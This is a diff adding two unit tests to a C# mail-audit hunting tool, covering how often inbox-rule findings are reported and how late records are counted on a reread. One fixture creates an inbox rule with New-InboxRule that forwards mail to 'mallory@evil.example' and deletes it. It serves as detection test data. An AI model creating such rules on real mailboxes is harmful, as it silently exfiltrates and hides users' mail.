@@ -102,6 +102,40 @@ public sealed class BaselineRunTests
         Assert.Contains("known before", after.VerdictText, StringComparison.Ordinal);
     }
 
+    /// <summary>The round of a job that hunts a whole archive each hour, long after a rule was made.</summary>
+    [Fact]
+    public void What_is_found_again_and_again_is_told_once_however_old_it_is()
+    {
+        string rule = new RuleLog().Cmdlet("New-InboxRule", new { Name = ".", ForwardTo = "mallory@evil.example", DeleteMessage = true }, hour: -700 * 24).Records[0];
+        MailAccessBaseline baseline = new(FactsTenant.Monday);
+        List<int> told = [];
+        for (int round = 0; round < 4; round++)
+        {
+            MailHunt hunt = new(new MailHuntOptions { Hunts = ["MailAccess", "InboxRule"], Access = new MailAccessHuntOptions { NewOnly = true, LearnBaseline = true, Now = FactsTenant.Monday.AddDays(13 + round) } }, baseline);
+            hunt.AddText(rule, "rule");
+            foreach (AuditRecord record in SmallLog.Before(13 + round))
+            {
+                hunt.Add(record);
+            }
+
+            MailHuntResult result = hunt.Complete(System.Threading.CancellationToken.None);
+            told.Add(result.Findings.OfType<InboxRuleFinding>().Count());
+            hunt.UpdatedBaseline!.MarkReported(result.Findings.Select(static f => KeyValuePair.Create(f.Id, (Severity?)f.Severity)), FactsTenant.Monday.AddDays(-500));
+            baseline = MailAccessBaseline.Parse(hunt.UpdatedBaseline.ToBytes());
+        }
+
+        Assert.Equal([1, 0, 0, 0], told);
+    }
+
+    [Fact]
+    public void Days_whose_number_was_given_up_are_not_late_when_the_whole_log_is_read_again()
+    {
+        AuditRecord[] old = SmallLog.Before(15);
+        AuditRecord[] now = old.Select(static r => r with { Id = "9" + r.Id[1..], CreationTime = r.CreationTime.AddDays(450) }).ToArray();
+        MailAccessBaseline baseline = Learning.Learn(now, Learning.Learn(old, null));
+        Assert.Equal(0, Learning.Hunt([.. old, .. now], baseline).Baseline!.LateRecords);
+    }
+
     [Fact]
     public void What_grew_after_it_was_told_is_told_again()
     {
